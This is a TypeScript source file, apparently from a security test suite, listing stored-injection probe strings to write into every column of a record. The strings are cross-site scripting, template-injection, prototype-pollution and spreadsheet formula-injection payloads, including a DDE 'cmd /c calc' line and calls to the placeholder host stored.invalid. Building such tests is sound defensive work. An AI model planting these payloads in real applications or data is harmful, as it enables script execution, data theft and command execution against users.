/**
 * What is written into every column, in lower case, as some columns take nothing else. `#` becomes the column's number
 * and the row's, as in `7.12`: that makes each text unique, and names the column whose text ran.
 */
export const storedTexts: readonly string[] = [
	'<script>storedran(#)</script>',
	'<img src=x onerror=storedran(#)>',
	'"><svg onload=storedran(#)>',
	`'-storedran(#)-'`,
	'" autofocus onfocus="storedran(#)" x="',
	`' onmouseover='storedran(#)' style='position:fixed;inset:0' x='`,
	'javascript:storedran(#)//"><img src=x onerror=storedran(#)>',
	'  \tjava\tscript:storedran(#)',
	'data:text/html,<script>parent.storedran(#)</script>',
	'</script></style></title></textarea></noscript></iframe><script src=https://stored.invalid/#></script>',
	'<style>@import "https://stored.invalid/#";</style><link rel=stylesheet href=https://stored.invalid/#>',
	'red;background:url(https://stored.invalid/#)}body{background:url(https://stored.invalid/#)',
	'<a href="javascript:storedran(#)">x</a><form action=https://stored.invalid/#><button>x</button></form>',
	'<iframe srcdoc="<script>parent.storedran(#)</script>"></iframe>',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: the syntax of templates, as a text
	"{{constructor.constructor('storedran(#)')()}} ${storedran(#)} $t(shell:skip) <%= storedran(#) %>",
	'<details open ontoggle=storedran(#)>x</details><input autofocus onfocus=storedran(#)>',
	'<base href=https://stored.invalid/><meta http-equiv=refresh content="0;url=https://stored.invalid/#">',
	'<object data=https://stored.invalid/#></object><embed src=https://stored.invalid/#>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=storedran(#)&gt;">',
	'<svg><desc><style><img title="</style><img src onerror=storedran(#)>"></desc></svg>',
	'<noscript><p title="</noscript><img src=x onerror=storedran(#)>">',
	'&lt;img src=x onerror=storedran(#)&gt; %3cscript%3estoredran(#)%3c/script%3e \\u003cscript\\u003e',
	'"},"__proto__":{"storedran":#},"constructor":{"prototype":{"storedran":#}},{"',
	'=hyperlink("https://stored.invalid/#","x")',
	'@sum(1+#)*cmd|" /c calc"!a0',
	'x\n=1+#\t+2;-3',
];
